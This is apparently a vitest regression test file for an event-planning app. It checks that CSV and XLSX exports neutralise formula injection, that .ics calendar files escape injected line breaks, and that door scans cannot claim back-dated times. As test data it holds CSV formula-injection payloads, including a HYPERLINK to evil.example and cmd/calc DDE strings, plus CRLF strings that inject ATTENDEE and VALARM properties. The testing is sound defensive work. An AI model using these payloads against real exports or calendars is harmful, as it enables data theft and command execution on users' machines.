/**
 * Issue 19, findings 8-10, as the outside probe ran them: formula text in every column of every export
 * (headers too), line breaks in an event's texts that wrote their own properties into .ics files, and a door
 * scan that claimed an old time to be admitted after the list had closed.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import ExcelJS from "exceljs";
import Papa from "papaparse";
import ical, { type VEvent } from "node-ical";
import type { TScanAnswer } from "#shared/tickets/schemas.ts";
import { OFFLINE_SCAN_MAX_AGE_MS, SCAN_CLOCK_SKEW_MS } from "#server/modules/tickets/checkin.ts";
import { eventInput, verifyEmail } from "../fixtures/factories.ts";
import type { Client } from "../fixtures/http-client.ts";
import { pathOf } from "../fixtures/test-app.ts";
import { activityBody, createWorld, expectStatus, type World } from "./world.ts";

let w: World;
beforeAll(async () => {
  w = await createWorld();
});
afterAll(async () => {
  await w?.close();
});

const json = async <T = Record<string, unknown>>(response: ReturnType<Client["request"]>, status: number): Promise<T> =>
  (await expectStatus(response, status)).json() as T;

describe("finding 8: every header and cell of every export is kept as text", () => {
  /** What a spreadsheet would run: a formula sign first, after blanks too, full-width ones included. */
  const LIVE = /^\s*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]/;
  const PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\uff1d1+1",
  ];
  const [hyperlink, plus, minus, at, fullWidth] = PAYLOADS as [string, string, string, string, string];

  interface Sheet {
    what: string;
    rows: unknown[][];
  }

  async function download(url: string): Promise<Sheet[]> {
    const csv = await expectStatus(
      w.owner.client.request("GET", `${url}${url.includes("?") ? "&" : "?"}format=csv`),
      200,
    );
    const xlsx = await expectStatus(
      w.owner.client.request("GET", `${url}${url.includes("?") ? "&" : "?"}format=xlsx`),
      200,
    );
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    const sheetRows: unknown[][] = [];
    workbook.worksheets[0]!.eachRow((row) => {
      const cells: unknown[] = [];
      row.eachCell((cell) => {
        // A formula cell runs whatever its text: none may exist.
        expect(cell.type, `${url} xlsx ${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
        cells.push(cell.value);
      });
      sheetRows.push(cells);
    });
    return [
      {
        what: `${url} csv`,
        rows: Papa.parse<string[]>(csv.body.replace(/^\uFEFF/, ""), { skipEmptyLines: true }).data,
      },
      { what: `${url} xlsx`, rows: sheetRows },
    ];
  }

  function expectAllText(sheets: Sheet[], mustHold: string[]) {
    for (const { what, rows } of sheets) {
      const cells = rows.flat();
      expect(
        cells.filter((cell) => typeof cell === "string" && LIVE.test(cell)),
        what,
      ).toEqual([]);
      // The text is all there, only made inert.
      for (const text of mustHold) expect(cells, what).toContain(`'${text}`);
    }
  }

  it("escapes a poll's question texts (the headers) and its answers, in CSV and XLSX", async () => {
    const event = await w.fresh.event();
    const member = w.onPlan.premium;
    await verifyEmail(w.t, member);
    await json(
      w.owner.client.request("POST", `/api/events/${event}/guests`, { name: "Member", email: member.email }),
      201,
    );
    const poll = await json<{ id: string; questions: Array<{ id: string; options: Array<{ id: string }> }> }>(
      w.owner.client.request("POST", `/api/events/${event}/polls`, {
        kind: "survey",
        title: "Probe",
        questions: [
          { prompt: hyperlink, kind: "single", options: [{ label: plus }, { label: "Fine" }] },
          { prompt: at, kind: "text", required: false },
        ],
      }),
      201,
    );
    const [choice, free] = poll.questions as [(typeof poll.questions)[0], (typeof poll.questions)[0]];
    await expectStatus(
      member.client.request("PUT", `/api/polls/${poll.id}/response`, {
        answers: [
          { questionId: choice.id, optionIds: [choice.options[0]!.id] },
          { questionId: free.id, text: minus },
        ],
      }),
      200,
    );

    const sheets = await download(`/api/polls/${poll.id}/export`);
    expectAllText(sheets, [hyperlink, at, plus, minus]);
    expect(sheets[0]!.rows[0]).toEqual(["Answered at", expect.any(String), `'${hyperlink}`, `'${at}`]);
  });

  it("escapes the guest list, the budget and the ticket exports the same way", async () => {
    const sale = await w.fresh.tickets();
    const { event } = sale;
    await json(
      w.owner.client.request("POST", `/api/events/${event}/guests`, {
        name: hyperlink,
        groupName: plus,
        tags: [at],
        notes: fullWidth,
      }),
      201,
    );
    await json(
      w.owner.client.request("PUT", `/api/events/${event}/budget`, { currency: "EUR", limitMinor: null }),
      200,
    );
    const budget = await json<{ categories: Array<{ id: string }> }>(
      w.owner.client.request("POST", `/api/events/${event}/budget/categories`, { name: at }),
      201,
    );
    const categoryId = budget.categories[0]!.id;
    await json(
      w.owner.client.request("POST", `/api/events/${event}/budget/lines`, {
        categoryId,
        item: hyperlink,
        vendor: minus,
        plannedMinor: 500,
      }),
      201,
    );
    await json(
      w.owner.client.request("POST", `/api/events/${event}/budget/expenses`, {
        categoryId,
        description: plus,
        vendor: fullWidth,
        amountMinor: 100,
        spentOn: "2027-01-10",
      }),
      201,
    );
    await json(w.owner.client.request("PATCH", `/api/ticket-types/${sale.type}`, { name: hyperlink }), 200);
    await json(w.owner.client.request("PATCH", `/api/checkin-lists/${sale.list}`, { name: plus }), 200);
    await json(
      w.t.client().request("POST", `/api/door/${sale.doorToken}/scans`, {
        code: sale.code,
        nonce: "export-probe-1",
        staff: at,
        device: minus,
      }),
      200,
    );

    expectAllText(await download(`/api/events/${event}/guests/export`), [hyperlink, plus, at, fullWidth]);
    expectAllText(await download(`/api/events/${event}/budget/export?of=lines`), [at, hyperlink, minus]);
    expectAllText(await download(`/api/events/${event}/budget/export?of=expenses`), [at, plus, fullWidth]);
    expectAllText(await download(`/api/events/${event}/ticket-export?kind=orders`), []);
    expectAllText(await download(`/api/events/${event}/ticket-export?kind=tickets`), [hyperlink]);
    expectAllText(await download(`/api/events/${event}/ticket-export?kind=checkins`), [plus, hyperlink, at, minus]);
  });
});

describe("finding 9: an event's texts cannot write properties into .ics files", () => {
  const INJECTED = "\r\nATTENDEE;RSVP=TRUE:mailto:evil@example.com\r\nBEGIN:VALARM\r\nTRIGGER:-PT5M\r\nEND:VALARM";
  // Every sign TEXT escapes, a lone CR, and multi-byte characters (2, 3 and 4 bytes) long enough to be folded.
  const NAME = `Reunion${INJECTED}\rORGANIZER:mailto:evil@example.com; a, b \\ c ${"é€🎉".repeat(12)}`;
  const DESCRIPTION = `Bring food${INJECTED}\nURL:https://evil.example/`;
  const LOCATION = `Gym${INJECTED}`;
  const ACTIVITY = `Dinner${INJECTED}`;
  /** RFC 5545 has no CR in TEXT: a line break of any kind comes back as "\n", and nothing else changes. */
  const asText = (value: string) => value.replace(/\r\n?/g, "\n");

  interface Property {
    name: string;
    params: string;
    value: string;
  }

  /**
   * A strict reader, stricter than calendar apps: every physical line at most 75 octets of whole UTF-8
   * characters, no control character but tab, continuation lines start with one blank, and every logical
   * line is NAME[;params]:value.
   */
  function readIcs(bytes: Buffer): Property[] {
    const physical: Buffer[] = [];
    for (let start = 0; start < bytes.length;) {
      const end = bytes.indexOf("\r\n", start);
      physical.push(bytes.subarray(start, end === -1 ? bytes.length : end));
      start = end === -1 ? bytes.length : end + 2;
    }
    const decoder = new TextDecoder("utf-8", { fatal: true });
    const logical: string[] = [];
    for (const line of physical) {
      expect(line.length, line.toString()).toBeLessThanOrEqual(75);
      const text = decoder.decode(line);
      expect(text, "a control character in a line").not.toMatch(/[^\P{Cc}\t]/u);
      if (text.startsWith(" ") || text.startsWith("\t")) {
        expect(logical.length).toBeGreaterThan(0);
        logical[logical.length - 1] += text.slice(1);
      } else logical.push(text);
    }
    return logical.map((line) => {
      const match = /^([A-Z0-9-]+)((?:;[A-Z0-9-]+=(?:"[^"]*"|[^";:,]*)(?:,(?:"[^"]*"|[^";:,]*))*)*):(.*)$/.exec(line);
      if (!match) throw new Error(`not a content line: ${line}`);
      return { name: match[1]!, params: match[2]!, value: match[3]! };
    });
  }

  /** TEXT's escapes and nothing else: a bare ";" or "," or an unknown escape is an error. */
  function unescapeText(value: string): string {
    let out = "";
    for (let i = 0; i < value.length; i++) {
      const c = value[i]!;
      if (c === ";" || c === ",") throw new Error(`unescaped ${c} in ${value}`);
      if (c !== "\\") {
        out += c;
        continue;
      }
      const next = value[++i];
      if (next === "n" || next === "N") out += "\n";
      else if (next === "\\" || next === ";" || next === ",") out += next;
      else throw new Error(`bad escape \\${next} in ${value}`);
    }
    return out;
  }

  async function calendarFiles() {
    const sale = await w.fresh.tickets();
    const event = sale.event;
    const renamed = await json<{ name: string; description: string; locationName: string }>(
      w.owner.client.request(
        "PUT",
        `/api/events/${event}`,
        eventInput({
          name: NAME,
          description: DESCRIPTION,
          locationName: LOCATION,
          startAt: "2027-06-12T15:00:00Z",
          endAt: "2027-06-13T15:00:00Z",
          // Still published: a draft's invitation link serves no calendar file (ADR 025).
          status: "published",
        }),
      ),
      200,
    );
    // The texts are stored as given: the defence is in the writing of the file.
    expect(renamed).toMatchObject({ name: NAME, description: DESCRIPTION });
    await json(w.owner.client.request("POST", "/api/activities", { ...activityBody(event), name: ACTIVITY }), 201);
    const guest = await json<{ invitationPath: string }>(
      w.owner.client.request("POST", `/api/events/${event}/guests`, { name: "Guest", email: "guest@example.com" }),
      201,
    );
    const feed = await json<{ url: string }>(w.owner.client.request("GET", `/api/events/${event}/calendar-feed`), 200);
    const files: Array<[string, Client, string]> = [
      ["the owner's download", w.owner.client, `/api/events/${event}/calendar.ics`],
      ["the event's feed", w.t.client(), pathOf(feed.url)],
      [
        "the guest's file",
        w.t.client(),
        `/api/public/invitations/${guest.invitationPath.split("/").pop()}/calendar.ics`,
      ],
      ["the ticket buyer's file", w.t.client(), `/api/public/orders/${sale.orderToken}/calendar.ics`],
    ];
    return Promise.all(
      files.map(async ([what, client, url]) => ({
        what,
        bytes: (await expectStatus(client.request("GET", url), 200)).rawPayload,
      })),
    );
  }

  it("escapes and folds every text property, so a strict parser and node-ical read back exactly the texts given", async () => {
    for (const { what, bytes } of await calendarFiles()) {
      const properties = readIcs(bytes);
      const names = properties.map((p) => p.name);
      expect(names, what).not.toContain("ATTENDEE");
      expect(names, what).not.toContain("ORGANIZER");
      expect(names, what).not.toContain("TRIGGER");
      expect(
        properties.filter((p) => p.name === "BEGIN").map((p) => p.value),
        what,
      ).not.toContain("VALARM");
      expect(
        properties.filter((p) => p.name === "BEGIN" && p.value === "VEVENT"),
        what,
      ).toHaveLength(2);
      const texts = (name: string) => properties.filter((p) => p.name === name).map((p) => unescapeText(p.value));
      expect(texts("SUMMARY").sort(), what).toEqual([asText(NAME), asText(ACTIVITY)].sort());
      expect(texts("X-WR-CALNAME"), what).toEqual([asText(NAME)]);
      expect(texts("NAME"), what).toEqual([asText(NAME)]);
      expect(texts("DESCRIPTION"), what).toContain(asText(DESCRIPTION));
      expect(texts("LOCATION"), what).toEqual([asText(LOCATION), asText(LOCATION)]);
      // The long name was folded, never inside a character.
      expect(bytes.toString("utf8"), what).toMatch(/\r\n /);

      // A calendar app's parser agrees: two events, the texts as given, nobody invited.
      const events = Object.values(ical.sync.parseICS(bytes.toString("utf8"))).filter(
        (c): c is VEvent => c?.type === "VEVENT",
      );
      expect(events, what).toHaveLength(2);
      const main = events.find((e) => String(e.uid).startsWith("event-"))!;
      expect(main.summary, what).toBe(asText(NAME));
      expect(main.location, what).toBe(asText(LOCATION));
      expect(main.description, what).toBe(asText(DESCRIPTION));
      for (const e of events) expect((e as { attendee?: unknown }).attendee, what).toBeUndefined();
    }
  });
});

describe("finding 10: a door scan cannot claim its way past the list's window", () => {
  const minutes = (n: number) => n * 60_000;
  const at = (offsetMs: number) => new Date(Date.now() + offsetMs).toISOString();
  let nonce = 0;
  const scan = (doorToken: string, code: string, scannedAt?: string) =>
    w.t.client().request("POST", `/api/door/${doorToken}/scans`, {
      code,
      nonce: `probe-scan-${++nonce}`,
      staff: "Probe",
      device: "probe",
      ...(scannedAt ? { scannedAt } : {}),
    });
  const checkedIn = async (doorToken: string) =>
    (await json<{ checkedIn: number }>(w.t.client().request("GET", `/api/door/${doorToken}`), 200)).checkedIn;
  const setWindow = (listId: string, activeFrom: string | null, activeUntil: string | null) =>
    json(w.owner.client.request("PATCH", `/api/checkin-lists/${listId}`, { activeFrom, activeUntil }), 200);

  async function refused(response: ReturnType<Client["request"]>) {
    const body = await json<{ error: { code: string; message: string; fields?: Record<string, string> } }>(
      response,
      400,
    );
    expect(body.error.code).toBe("VALIDATION_ERROR");
    expect(body.error.fields).toHaveProperty("scannedAt");
    return body.error;
  }

  it("refuses a scan claiming two hours back, after the list closed, and admits nobody", async () => {
    const sale = await w.fresh.tickets();
    await setWindow(sale.list, at(-minutes(180)), at(-minutes(60)));
    const error = await refused(scan(sale.doorToken, sale.code, at(-minutes(120))));
    expect(error.message).toMatch(/15 minutes/);
    expect(await checkedIn(sale.doorToken)).toBe(0);
    // Just past the bound is refused too.
    await refused(scan(sale.doorToken, sale.code, at(-OFFLINE_SCAN_MAX_AGE_MS - minutes(1))));
    expect(await checkedIn(sale.doorToken)).toBe(0);
  });

  it("judges the window by the server's clock as well: a claimed time inside it does not reopen a closed list", async () => {
    const sale = await w.fresh.tickets();
    await setWindow(sale.list, at(-minutes(60)), at(-minutes(2)));
    const answer = await json<TScanAnswer>(scan(sale.doorToken, sale.code, at(-minutes(5))), 200);
    expect(answer).toMatchObject({ result: "not_active", undoable: false });
    const online = await json<TScanAnswer>(scan(sale.doorToken, sale.code), 200);
    expect(online.result).toBe("not_active");
    expect(await checkedIn(sale.doorToken)).toBe(0);
  });

  it("refuses a claimed time in the future beyond the clock skew", async () => {
    const sale = await w.fresh.tickets();
    await refused(scan(sale.doorToken, sale.code, at(minutes(60))));
    await refused(scan(sale.doorToken, sale.code, at(SCAN_CLOCK_SKEW_MS + minutes(1))));
    expect(await checkedIn(sale.doorToken)).toBe(0);
  });

  it("still admits an honest offline scan sent within the bound while the list is open", async () => {
    const sale = await w.fresh.tickets();
    await setWindow(sale.list, at(-minutes(60)), at(minutes(60)));
    const answer = await json<TScanAnswer>(scan(sale.doorToken, sale.code, at(-minutes(5))), 200);
    expect(answer).toMatchObject({ result: "admitted", conflict: false });
    expect(await checkedIn(sale.doorToken)).toBe(1);
  });
});
